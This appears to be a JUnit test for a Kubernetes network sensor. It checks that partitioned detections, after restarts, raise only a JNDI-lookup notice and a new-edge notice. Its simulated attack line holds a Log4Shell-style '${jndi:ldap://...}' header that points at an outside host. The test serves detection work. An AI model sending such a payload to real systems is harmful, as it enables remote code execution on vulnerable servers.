/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.notice;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.podtap.core.json.JsonReader;
import io.podtap.sensor.Analysis;
import io.podtap.sensor.broker.BrokerSettings;
import io.podtap.sensor.detect.DetectSettings;
import io.podtap.sensor.detect.PartitionDetections;
import io.podtap.sensor.detect.Router;
import io.podtap.sensor.log.JsonFormat;
import io.podtap.sensor.log.LineBuffer;
import io.podtap.sensor.log.LogSchema;
import io.podtap.sensor.sink.LogSink;
import io.podtap.sensor.sink.LogStream;
import io.podtap.sensor.track.Tracker;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.LongSupplier;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/**
 * The traffic of a cluster as packets, analyzed by a sensor whose records go as JSON to detections
 * in four partitions: they find what the sensor's own detections find, and nothing else.
 */
class ClusterBehindABrokerTest {

  private static final int PARTITIONS = 4;

  private final DetectSettings settings =
      new DetectSettings(
          BrokerSettings.of("127.0.0.1:1", BrokerSettings.TOPIC_DEFAULT, List.of()),
          NoticeSettingsFile.read(null, List.of("cluster.learning=1800"), null),
          DetectSettings.APPLICATION_DEFAULT,
          DetectSettings.NOTICE_TOPIC_DEFAULT,
          PARTITIONS,
          1,
          null);

  /** What a sensor sends. */
  private final class Sensor implements LogSink {

    private final Router router = new Router(settings);
    private final JsonFormat format = new JsonFormat();
    private final LineBuffer buffer = new LineBuffer(256);
    private LongSupplier clockNs = () -> 0;

    @Override
    public void timedBy(LongSupplier packetTimeNs) {
      clockNs = packetTimeNs;
    }

    @Override
    public <R> LogStream<R> open(LogSchema<R> schema) {
      String log = schema.path();
      return row -> {
        buffer.truncate(0);
        format.write(schema, row, buffer);
        String json = new String(buffer.bytes(), 0, buffer.length() - 1, StandardCharsets.UTF_8);
        take(router, log, named(json), clockNs.getAsLong());
      };
    }

    /** Has the sensor look at payload, as one with notices does. */
    @Override
    public <R> @Nullable LogStream<R> events(LogSchema<R> schema) {
      return schema.path().equals("content") ? _ -> {} : null;
    }

    @Override
    public LogSink another() {
      return this;
    }

    @Override
    public void flush() {}

    @Override
    public void close() {}
  }

  private final List<PartitionDetections> partitions = new ArrayList<>();
  private final List<Map<String, byte[]>> stores = new ArrayList<>();
  private final List<Map<String, String>> notices = new ArrayList<>();
  private WorkloadNames names = WorkloadNames.NONE;
  private int records;

  ClusterBehindABrokerTest() {
    for (int i = 0; i < PARTITIONS; i++) {
      partitions.add(make());
      stores.add(new HashMap<>());
    }
  }

  private PartitionDetections make() {
    return new PartitionDetections(
        settings, (_, json) -> notices.add(fields(new String(json, StandardCharsets.UTF_8))));
  }

  private void take(Router router, String log, String json, long timeNs) {
    records++;
    router.route(
        log,
        json.getBytes(StandardCharsets.UTF_8),
        timeNs,
        (partition, envelope) -> {
          partitions.get(partition).take(envelope, timeNs);
          Map<String, byte[]> store = stores.get(partition);
          partitions
              .get(partition)
              .changes((key, bytes) -> {
                if (bytes == null) {
                  store.remove(key);
                } else {
                  store.put(key, bytes);
                }
              });
        });
  }

  private void restart() {
    for (int i = 0; i < PARTITIONS; i++) {
      PartitionDetections made = make();
      stores.get(i).forEach(made::restore);
      made.resume();
      assertThat(made.invalid()).isZero();
      partitions.set(i, made);
    }
  }

  /** Adds the columns that identity adds. */
  private String named(String json) {
    Map<String, String> fields = fields(json);
    StringBuilder more = new StringBuilder();
    for (String end : List.of("orig", "resp")) {
      String address = fields.getOrDefault("id." + end + "_h", "");
      String name = address.isEmpty() ? "" : names.nameOf(address, 0);
      int slash = name.indexOf('/');
      if (slash > 0) {
        String prefix = ",\"k8s." + end + ".";
        more.append(prefix).append("namespace\":\"").append(name, 0, slash).append('"');
        more.append(prefix).append("workload\":\"").append(name.substring(slash + 1)).append('"');
      }
    }
    return json.substring(0, json.length() - 1) + more + '}';
  }

  private static Map<String, String> fields(String json) {
    Map<String, String> fields = new HashMap<>();
    JsonReader reader =
        new JsonReader(new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)));
    try {
      reader.enterObject();
      while (reader.more()) {
        String name = reader.name();
        fields.put(name, reader.scalar());
      }
    } catch (IOException e) {
      throw new IllegalStateException(json, e);
    }
    return fields;
  }

  @Test
  void findsWhatASensorFinds() {
    Analysis analysis =
        new Analysis(new Tracker.Settings(100_000, false, 7), new Sensor(), /* tapName= */ null);
    ClusterTraffic traffic = new ClusterTraffic(analysis, 1);
    names = traffic::nameOf;
    traffic.begin().release(Duration.ofHours(1), "shop/reports");
    traffic.runUntil(Duration.ofMinutes(100));
    restart();
    traffic.runUntil(Duration.ofHours(2));
    assertThat(notices).isEmpty();
    assertThat(records).isGreaterThan(10_000);

    int web = traffic.any("shop/web");
    traffic.attack(web, traffic.any("shop/api"), "X-A: ${jndi:ldap://203.0.113.9/a}");
    restart();
    traffic.http(web, traffic.any("data/postgres"), 8080, "/", 10);
    traffic.runUntil(Duration.ofHours(2).plusMinutes(1));
    analysis.close();
    assertThat(notices)
        .extracting(row -> row.get("note"), row -> row.get("k8s.src"), row -> row.get("k8s.dst"))
        .containsExactlyInAnyOrder(
            tuple("Cluster::JNDI_Lookup", "shop/web", "shop/api"),
            tuple("Cluster::New_Edge", "shop/web", "data/postgres"));
  }
}
